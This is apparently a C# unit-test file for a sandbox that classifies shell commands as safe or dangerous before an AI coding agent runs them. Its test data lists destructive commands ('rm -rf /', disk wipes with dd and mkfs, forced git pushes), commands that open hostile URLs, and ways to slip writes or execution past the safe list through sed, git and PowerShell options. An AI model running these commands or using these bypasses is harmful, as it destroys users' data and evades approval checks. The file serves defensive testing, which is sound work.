using CodexSandbox.Engine.Analysis;

namespace CodexSandbox.Engine.Tests.Analysis;

public class SafetyTests
{
    private static string[] Argv(string line) => ShellWords.Split(line)!.ToArray();

    [Theory]
    [InlineData("ls -la")]
    [InlineData("/usr/bin/ls")]
    [InlineData("cat a b")]
    [InlineData("numfmt --to=iec 1024")]
    [InlineData("tac file")]
    [InlineData("base64 file")]
    [InlineData("find . -name *.cs")]
    [InlineData("rg foo -g *.py")]
    [InlineData("git status")]
    [InlineData("git log -p -1")]
    [InlineData("git diff --no-ext-diff --no-textconv")]
    [InlineData("git diff --output-indicator-new=X")]
    [InlineData("uniq")]
    [InlineData("uniq in.txt")]
    [InlineData("uniq -c -d in.txt")]
    [InlineData("uniq -f 1 -s 2 -w 3 in.txt")]
    [InlineData("uniq -cf 1 in.txt")]
    [InlineData("uniq -f1 --skip-chars 2 --check-chars=3 in.txt")]
    [InlineData("sed -n 1,5p -")]
    [InlineData("git diff HEAD~1")]
    [InlineData("git branch")]
    [InlineData("git branch --show-current -vv")]
    [InlineData("git branch --format=%(refname)")]
    [InlineData("sed -n 5p file")]
    [InlineData("sed -n 1,5p")]
    [InlineData("bash -lc 'ls && pwd'")]
    [InlineData("zsh -c 'cat a | wc -l'")]
    [InlineData("/bin/sh -c 'echo hi'")]
    [InlineData("pwsh -NoProfile -Command 'Get-ChildItem; Get-Content a.txt'")]
    [InlineData("powershell.exe -c 'git status'")]
    public void KnownSafe(string line) => Assert.True(KnownSafeCommands.IsKnownSafe(Argv(line)), line);

    [Theory]
    [InlineData("cargo check")]
    [InlineData("base64 -o out file")]
    [InlineData("base64 --output=x")]
    [InlineData("base64 -ob64.txt")]
    [InlineData("find . -delete")]
    [InlineData("find . -exec rm {} ;")]
    [InlineData("find . -fprintf x y")]
    [InlineData("rg --pre cat foo")]
    [InlineData("rg --pre=cat foo")]
    [InlineData("rg -z foo")]
    [InlineData("rg --hostname-bin=x foo")]
    [InlineData("git -C sub log --oneline")] // Codex no longer accepts -C (it points git at another repository and its config)
    [InlineData("git -c core.pager=evil log")]
    [InlineData("git -ccore.x=y status")]
    [InlineData("git --git-dir=/x status")]
    [InlineData("git --work-tree /x status")]
    [InlineData("git push")]
    [InlineData("git checkout main")]
    [InlineData("git log --output=x")]
    [InlineData("git diff --ext-diff")]
    [InlineData("git show --textconv")]
    [InlineData("git log --paginate")]
    [InlineData("git branch -d old")]
    [InlineData("git branch newname")]
    [InlineData("sed -i s/a/b/ file")]
    [InlineData("sed -n 5 file")]
    [InlineData("sed -n 5p a b")]
    [InlineData("sed -n 1,p")]
    [InlineData("bash -lc 'ls > x'")]
    [InlineData("bash -lc 'ls && rm x'")]
    [InlineData("bash -lc ls pwd")] // four elements are not a wrapper
    [InlineData("fish -c ls")]
    [InlineData("pwsh -Command 'Remove-Item x'")]
    [InlineData("pwsh -EncodedCommand ZQBjAGgAbwA=")]
    [InlineData("pwsh -File x.ps1")]
    [InlineData("pwsh -ExecutionPolicy Bypass -c 'ls'")]
    [InlineData("pwsh -c 'ls' extra")]
    public void NotKnownSafe(string line) => Assert.False(KnownSafeCommands.IsKnownSafe(Argv(line)), line);

    [Theory]
    [InlineData("rm -rf /")]
    [InlineData("rm -f x")]
    [InlineData("rm -fr x")]
    [InlineData("rm -r -f x")]
    [InlineData("rm -Rf x")]
    [InlineData("rm -rfv x")]
    [InlineData("rm --recursive --force x")]
    [InlineData("rm --force x")]
    [InlineData("rm --forc x")]
    [InlineData("rm x -rf")]
    [InlineData("rm -r /")]
    [InlineData("rm --no-preserve-root -r /")]
    [InlineData("/bin/rm -rf x")]
    [InlineData("/usr/bin/rm -rf x")]
    [InlineData("sudo rm -rf /")]
    [InlineData("sudo -n rm -rf /")]
    [InlineData("sudo -u bob rm -rf /home/bob")]
    [InlineData("sudo --user=bob -E rm -f x")]
    [InlineData("sudo -- rm -f x")]
    [InlineData("sudo FOO=1 rm -f x")]
    [InlineData("doas -u root rm -rf /")]
    [InlineData("env -i PATH=/bin rm -rf /")]
    [InlineData("nice -n 5 rm -rf x")]
    [InlineData("nohup rm -rf x")]
    [InlineData("xargs -0 -n 1 rm -rf")]
    [InlineData("busybox rm -rf /")]
    [InlineData("timeout -s KILL 5 rm -rf x")]
    [InlineData("bash -lc 'find . -name x | xargs rm -f'")]
    [InlineData("git reset --hard")]
    [InlineData("git -C repo reset --hard HEAD~3")]
    [InlineData("git clean -f")]
    [InlineData("git clean -fdx")]
    [InlineData("git clean --force")]
    [InlineData("git push --force")]
    [InlineData("git push --force-with-lease origin main")]
    [InlineData("git push -f")]
    [InlineData("git push origin +main")]
    [InlineData("git push origin --delete old")]
    [InlineData("git push origin :old")]
    [InlineData("git branch -D old")]
    [InlineData("git branch --delete --force old")]
    [InlineData("dd if=/dev/zero of=/dev/sda")]
    [InlineData("mkfs.ext4 /dev/sdb1")]
    [InlineData("/sbin/mkfs -t ext4 /dev/sdb1")]
    [InlineData("chmod -R 777 /")]
    [InlineData("chown -R bob /")]
    [InlineData("bash -lc 'ls && rm -rf /'")]
    [InlineData("bash -c 'rm -rf / > /dev/null 2>&1'")]
    [InlineData("sh -c 'echo $(rm -rf ~)'")]
    [InlineData("sudo bash -c 'rm -fr /var'")]
    [InlineData("pwsh -c 'Remove-Item -Recurse -Force C:\\'")]
    [InlineData("pwsh -c 'rm -rf /'")]
    [InlineData("cmd /c del /f x")]
    [InlineData("cmd.exe /d /c rd /s /q C:\\x")]
    [InlineData("cmd /c \"echo hi&del /f x\"")]
    [InlineData("cmd /c start https://evil.example")]
    [InlineData("rundll32 url.dll,FileProtocolHandler https://evil.example")]
    [InlineData("mshta https://evil.example/x.hta")]
    [InlineData("chrome.exe https://evil.example")]
    [InlineData("explorer https://evil.example")]
    public void Dangerous(string line)
    {
        Assert.True(DangerousCommands.IsDangerous(Argv(line), out var reason), line);
        Assert.False(string.IsNullOrEmpty(reason));
    }

    [Theory]
    [InlineData("rm x")]
    [InlineData("rm -r build")]
    [InlineData("rm -i x")]
    [InlineData("rm -- -rf")]
    [InlineData("sudo ls")]
    [InlineData("xargs -I {} echo {}")]
    [InlineData("timeout 5 ls")]
    [InlineData("sudo -u rm ls")] // `rm` is the user name
    [InlineData("git reset HEAD~1")]
    [InlineData("git clean -n")]
    [InlineData("git push origin main")]
    [InlineData("git branch -d merged")]
    [InlineData("git commit -m 'rm -rf /'")]
    [InlineData("dd if=/dev/zero of=/tmp/x")]
    [InlineData("dd if=x of=/dev/null")]
    [InlineData("chmod -R 755 build")]
    [InlineData("chmod 755 /")]
    [InlineData("echo rm -rf /")]
    [InlineData("cmd /c del x")]
    [InlineData("cmd /c rd /s x")]
    [InlineData("cmd foo /c del /f x")]
    [InlineData("chrome --version")]
    [InlineData("bash -lc 'ls -la'")]
    public void NotDangerous(string line) => Assert.False(DangerousCommands.IsDangerous(Argv(line), out _), line);
}

/// <summary>
/// Known-safe means the command cannot write a file or run another program (attack-2026-12.md A1, and Codex's newer
/// vectors of codex-config-2026.md §8). Each case was auto-approved before.
/// </summary>
public class KnownSafeWritesAndExecsTests
{
    private static bool Safe(params string[] argv) => KnownSafeCommands.IsKnownSafe(argv);

    [Theory]
    [InlineData("uniq", "in", "out")]
    [InlineData("uniq", "-c", "in", "out")]
    [InlineData("uniq", "-f", "1", "in", "out")]
    [InlineData("uniq", "-cf", "1", "in", "out")]
    [InlineData("uniq", "--skip-fields", "1", "in", "out")]
    [InlineData("uniq", "--", "in", "out")]
    [InlineData("uniq", "in", "--", "-out")]
    [InlineData("uniq", "-", "out")]
    [InlineData("uniq", "in", "-")] // counted as two operands: erring towards unsafe
    public void UniqWithAnOutputOperand(params string[] argv) => Assert.False(Safe(argv), string.Join(' ', argv));

    [Theory]
    [InlineData("sed", "-n", "1p", "-e1e touch pwned")]        // GNU sed `e` runs a command
    [InlineData("sed", "-n", "1p", "-e", "1e touch pwned")]
    [InlineData("sed", "-n", "1p", "--expression=w out")]     // `w` writes a file
    [InlineData("sed", "-n", "1p", "--expression", "w out")]
    [InlineData("sed", "-n", "1p", "-ew out")]
    [InlineData("sed", "-n", "1p", "-eW out")]                // `W` too
    [InlineData("sed", "-n", "1p", "-fscript.sed")]           // a script file can hold anything
    [InlineData("sed", "-n", "1p", "-f", "script.sed")]
    [InlineData("sed", "-n", "1p", "--file=script.sed")]
    [InlineData("sed", "-n", "-f", "script.sed")]
    [InlineData("sed", "-n", "-e", "1p", "file")]
    [InlineData("sed", "-n", "1e touch pwned")]               // scripts given as the first operand
    [InlineData("sed", "-n", "1w out", "file")]
    [InlineData("sed", "-n", "1W out")]
    [InlineData("sed", "-n", "1p;w out", "file")]
    [InlineData("sed", "1e touch pwned", "file")]
    [InlineData("sed", "-n", "1p", "-i")]
    [InlineData("sed", "-n", "1p", "-s")]
    public void SedThatCouldWriteOrExecute(params string[] argv) => Assert.False(Safe(argv), string.Join(' ', argv));

    [Theory]
    [InlineData("sort", "-o", "out", "in")]
    [InlineData("sort", "--output=out", "in")]
    [InlineData("sort", "--output", "out", "in")]
    [InlineData("sort", "-oout", "in")]
    [InlineData("sort", "in")] // sort is not on Codex's list at all
    public void SortIsNotKnownSafe(params string[] argv) => Assert.False(Safe(argv), string.Join(' ', argv));

    [Theory]
    [InlineData("find", ".", "-fprint", "out")]
    [InlineData("find", ".", "-fprint0", "out")]
    [InlineData("find", ".", "-fprintf", "out", "%p")]
    [InlineData("find", ".", "-fls", "out")]
    [InlineData("find", ".", "-exec", "touch", "x", ";")]
    [InlineData("find", ".", "-execdir", "touch", "x", "+")]
    [InlineData("find", ".", "-ok", "rm", "{}", ";")]
    [InlineData("find", ".", "-okdir", "rm", "{}", ";")]
    [InlineData("find", ".", "-delete")]
    [InlineData("find", ".", "(", "-name", "x", "-exec", "rm", "{}", ";", ")")]
    public void FindThatWritesOrExecutes(params string[] argv) => Assert.False(Safe(argv), string.Join(' ', argv));

    [Theory]
    [InlineData("git -C . branch")]            // Codex changed its answer: -C is no longer safe
    [InlineData("git -C. status")]
    [InlineData("git -C .. log")]
    [InlineData("git -c core.pager=cat log -n 1")]
    [InlineData("git -ccore.pager=cat status")]
    [InlineData("git -p log -1")]               // before the subcommand -p is --paginate: it runs the pager
    [InlineData("git --paginate log -1")]
    [InlineData("git log --paginate")]
    [InlineData("git --output=out log")]        // --output before or after the subcommand
    [InlineData("git log --output=out -1")]
    [InlineData("git diff --output out")]
    [InlineData("git show --output=out HEAD")]
    [InlineData("git --ext-diff diff")]
    [InlineData("git diff --ext-diff")]
    [InlineData("git diff --no-ext-diff --ext")] // unique abbreviations, which newer git accepts
    [InlineData("git diff --ext-d")]
    [InlineData("git log --textconv -1")]
    [InlineData("git --textconv show")]
    [InlineData("git show --textc HEAD")]
    [InlineData("git --exec-path=.git/helpers show HEAD")]
    [InlineData("git --exec-path .git/helpers show HEAD")]
    [InlineData("git log --exec-path=x")]
    [InlineData("git log --exec=x")]
    [InlineData("git --config-env core.pager=PAGER show HEAD")]
    [InlineData("git --config-env=core.pager=PAGER show HEAD")]
    [InlineData("git --git-dir .evil-git diff HEAD~1..HEAD")]
    [InlineData("git --git-dir=.evil-git diff HEAD~1..HEAD")]
    [InlineData("git --work-tree . status")]
    [InlineData("git --work-tree=. status")]
    [InlineData("git --namespace attacker show HEAD")]
    [InlineData("git --namespace=attacker show HEAD")]
    [InlineData("git --super-prefix attacker/ show HEAD")]
    [InlineData("git --super-prefix=attacker/ show HEAD")]
    [InlineData("git checkout status")]         // the first positional is the subcommand
    [InlineData("git cat-file -p HEAD")]
    public void GitThatRedirectsRunsOrWrites(string line)
    {
        var argv = line.Split(' ');
        Assert.False(Safe(argv), line);
        Assert.False(Safe(["bash", "-lc", line]), "bash -lc " + line);
        Assert.False(Safe(["pwsh", "-NoProfile", "-Command", line]), "pwsh -Command " + line);
        Assert.False(PowerShellSafeCommands.IsSafe(argv), "PowerShell words " + line);
    }

    [Theory]
    [InlineData("git status")]
    [InlineData("git log -p -1")]   // Codex: git_subcommand_patch_flags_remain_safe
    [InlineData("git diff -p")]
    [InlineData("git show -p HEAD")]
    [InlineData("git branch")]      // now the same list as the POSIX one
    [InlineData("git branch --show-current")]
    public void GitReadOnlyEverywhere(string line)
    {
        var argv = line.Split(' ');
        Assert.True(Safe(argv), line);
        Assert.True(Safe(["bash", "-lc", line]), "bash -lc " + line);
        Assert.True(Safe(["pwsh", "-NoProfile", "-Command", line]), "pwsh -Command " + line);
    }

    [Fact]
    public void PowerShellGitHasThePosixChecks()
    {
        // attack-2026-12.md A1: the PowerShell git check lacked --output
        Assert.False(Safe(["pwsh", "-NoProfile", "-Command", "git log -1 --output=pwsh-git-output"]));
        Assert.False(Safe(["pwsh", "-Command", "git diff --ext-diff"]));
        // Codex windows_safe_commands.rs rejects_git_subcommand_options_with_side_effects
        foreach (var script in new[] { "git diff --output codex_poc.txt", "git diff --ext-diff HEAD", "git log --textconv -1",
            "git show --output=codex_poc.txt HEAD", "git cat-file --filters HEAD:a.txt" })
        {
            Assert.False(Safe(["powershell.exe", "-NoProfile", "-Command", script]), script);
        }
    }

    [Fact]
    public void PowerShellStopParsingIsNotSafe()
    {
        // Codex rejects_stop_parsing_git_forms / parser_process_rejects_stop_parsing_forms: after `--%` PowerShell
        // hands the rest to git unparsed, so `--output=` hides inside one word
        Assert.False(Safe(["powershell.exe", "-NoProfile", "-Command", "git log --% HEAD --output=codex_poc.txt"]));
        Assert.False(PowerShellAnalysis.TryParseCommands("git log --% HEAD --output=codex_poc.txt", new List<string[]>()));
        Assert.True(PowerShellAnalysis.TryParseCommands("git log '--%'", new List<string[]>())); // a quoted --% is a plain word
    }

    [Fact]
    [System.Runtime.Versioning.SupportedOSPlatform("linux")]
    public void ClassifyingAPowerShellPathNeverRunsIt()
    {
        // Codex non_windows_safe_classification_does_not_spawn_repo_powershell_path. We parse PowerShell in-process on
        // every OS (a deliberate difference, ARCHITECTURE.md), so nothing named pwsh is ever started to classify a command.
        var dir = Directory.CreateTempSubdirectory("fake-pwsh-").FullName;
        try
        {
            var fake = Path.Combine(dir, "pwsh");
            var marker = Path.Combine(dir, "marker");
            File.WriteAllText(fake, $"#!/bin/sh\nprintf spawned > '{marker}'\n");
            File.SetUnixFileMode(fake, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
            KnownSafeCommands.IsKnownSafe([fake, "-Command", "Get-ChildItem"]);
            CommandAnalyzer.AssessArgv([fake, "-Command", "Get-ChildItem"], null, SandboxMode.ReadOnly, ApprovalPolicy.Untrusted);
            Assert.False(File.Exists(marker));
        }
        finally
        {
            Directory.Delete(dir, recursive: true);
        }
    }
}
